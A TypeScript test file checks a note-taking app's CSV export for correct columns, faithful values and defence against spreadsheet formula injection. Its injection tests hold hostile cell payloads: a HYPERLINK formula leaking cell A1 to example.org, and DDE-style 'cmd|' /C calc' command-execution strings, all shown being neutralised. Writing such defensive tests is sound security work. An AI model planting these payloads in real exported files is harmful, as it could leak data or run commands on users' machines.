/**
 * CSV export, read back with a real CSV parser (csv-parse): the documented
 * columns, values equal to the records (commas, quotes and newlines in notes
 * included), and no cell a spreadsheet would run as a formula.
 */
import { parse } from 'csv-parse/sync';
import { notePlainText } from '../../shared/markdown/note';
import { COLOR_LABELS, POSITION_LABELS, PRIORITY_LABELS } from '../../shared/vocabulary/labels';
import { describe, expect, it } from 'vitest';
import { TAG_SEPARATOR, defuse, exportCsv } from './csv';
import { CSV_COLUMNS } from './csv-columns';
import * as fx from '../../../tests/support/entries';

type Row = Record<string, string>;
const read = (csv: string): Row[] => parse<Row>(csv, { bom: true, columns: true, skip_empty_lines: false });

describe('CSV export', () => {
  const entries = fx.realisticEntries();
  const csv = exportCsv(entries, fx.OPTIONS);
  const rows = read(csv);

  it('has the documented columns, one row per note or bookmark, CRLF records and a UTF-8 BOM', () => {
    const header: string[][] = parse(csv, { bom: true, to_line: 1 });
    expect(header[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(entries.length);
    expect(csv.startsWith('\uFEFFtype,id,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('gives back every value of the records, notes with commas, quotes and newlines included', () => {
    entries.forEach((e, i) => {
      const row = rows[i];
      const a = e.annotation;
      const b = e.bookmark;
      expect(row.type).toBe(e.type);
      expect(row.id).toBe(a?.id ?? b?.id);
      expect(row.block_id).toBe(a?.blockId ?? b?.targetId);
      expect(row.label).toBe(e.target?.label ?? '');
      expect(row.cluster).toBe(e.clusterTitle ?? '');
      expect(row.focus_area).toBe(e.focusAreaTitle ?? '');
      expect(row.quote).toBe(a?.selector?.exact ?? e.block?.text ?? e.target?.excerpt ?? '');
      // Marks in words, as the app shows them.
      expect(row.position).toBe(a?.position ? POSITION_LABELS[a.position].label : '');
      expect(row.priority).toBe(a?.priority ? PRIORITY_LABELS[a.priority] : '');
      expect(row.color).toBe(a?.color ? COLOR_LABELS[a.color] : '');
      expect(row.tags === '' ? [] : row.tags.split(TAG_SEPARATOR)).toEqual(a?.tags ?? []);
      expect(row.created).toBe(a?.created ?? b?.created);
      expect(row.modified).toBe(a?.modified ?? b?.modified);
      expect(row.anchor).toBe(a ? (e.target ? a.anchor : 'orphan') : e.target ? 'attached' : 'orphan');
      expect(row.link).toBe(`recollection://block/${row.block_id}`);
      // The note reads as plain text: its Markdown markup is removed, list items as "• " lines.
      if (a) expect(row.note).toBe(defuse(notePlainText(a.note, { bullet: '• ', rule: '—' })));
      else expect(row.note).toBe(b!.label); // these labels all say more than the citation
    });
    const multiline = rows.find((r) => r.note.includes('ILO C189'))!;
    expect(multiline.note).toContain('"support, but add ILO C189".\nSecond line, with a comma.');
  });

  it('neutralises cells that start like a formula, and only those', () => {
    const attack = [
      fx.annotationEntry(
        fx.annotation('c2.f2.po.1', {
          note: '=HYPERLINK("http://example.org?leak="&A1,"click")',
          tags: ['+cmd', '@SUM(1)'],
        }),
      ),
      fx.annotationEntry(fx.annotation('c2.f2.po.2', { note: "-2+3+cmd|' /C calc'!A0" })),
      fx.annotationEntry(fx.annotation('c2.f2.po.3', { note: '\t=1+1' })),
      fx.bookmarkEntry(fx.bookmark('c2.f2.pa.1', '@risk: ask capital')),
    ];
    const out = read(exportCsv(attack, fx.OPTIONS));
    expect(out.map((r) => r.note)).toEqual([
      `'=HYPERLINK("http://example.org?leak="&A1,"click")`,
      `'-2+3+cmd|' /C calc'!A0`,
      `'=1+1`, // a tab-indented line is a code block in Markdown: its text is "=1+1"
      `'@risk: ask capital`,
    ]);
    expect(out[0].tags).toBe(`'+cmd${TAG_SEPARATOR}'@SUM(1)`);
    // No cell of any row starts with a formula trigger.
    for (const row of [...out, ...rows])
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(defuse('Support, with amendments')).toBe('Support, with amendments');
    expect(defuse('')).toBe('');
  });

  it('quotes every cell with a line break and defuses every line that starts like a formula', () => {
    const hostile = [
      fx.annotationEntry(fx.annotation('c2.f3.po.1', { note: 'Ask capital first\n=1+1\n@SUM(2*3)\n-2+3' })),
      fx.annotationEntry(
        fx.annotation('c2.f2.po.1', { note: '- check with capital\n- check the SDG target\r\n+ ask' }),
      ),
      fx.annotationEntry(fx.annotation('c2.f2.po.2', { note: 'line\r=HYPERLINK("x")\n\t=1\n\r@A1' })),
      fx.bookmarkEntry(fx.bookmark('c2.f2.pa.1', 'first\n=cmd|calc')),
    ];
    const csv = exportCsv(hostile, fx.OPTIONS);
    const out = read(csv);
    expect(out).toHaveLength(hostile.length); // one row per record: no cell split into rows
    // Read as spreadsheets and Python's csv module do, any line break ending an unquoted record.
    const strict = parse<Row>(csv, { bom: true, columns: true, record_delimiter: ['\r\n', '\n', '\r'] });
    expect(strict).toEqual(out);
    expect(out.map((r) => r.type)).toEqual(['annotation', 'annotation', 'annotation', 'bookmark']);
    expect(out[0].note).toBe("Ask capital first\n'=1+1\n'@SUM(2*3)\n'-2+3");
    // Plain text of the notes (Markdown read, line ends normalised), every line still defused.
    // List items are "• " lines: no formula, so no stray quote (a "- " line would need one).
    expect(out[1].note).toBe('• check with capital\n• check the SDG target\n• ask');
    expect(out[2].note).toBe(`line\n'=HYPERLINK("x")\n'=1\n'@A1`);
    expect(out[3].note).toBe("first\n'=cmd|calc");
    // No line of any cell starts with a formula trigger unprefixed.
    for (const row of out)
      for (const cell of Object.values(row))
        for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[=+\-@\t]/);
    // Every cell holding a line break is quoted in the file itself.
    expect(csv).toContain("\"Ask capital first\n'=1+1\n'@SUM(2*3)\n'-2+3\"");
  });

  it('leaves the note, tag and bookmark-label cells empty without private notes', () => {
    const shared = read(exportCsv(entries, { ...fx.OPTIONS, includeNotes: false }));
    expect(shared).toHaveLength(entries.length);
    for (const row of shared) {
      expect(row.note).toBe('');
      expect(row.tags).toBe('');
    }
    expect(shared.map((r) => r.position)).toEqual(rows.map((r) => r.position));
    expect(shared.map((r) => r.quote)).toEqual(rows.map((r) => r.quote));
  });

  it('writes only the header for nothing', () => {
    const empty = exportCsv([], fx.OPTIONS);
    expect(read(empty)).toEqual([]);
    expect(empty).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });
});
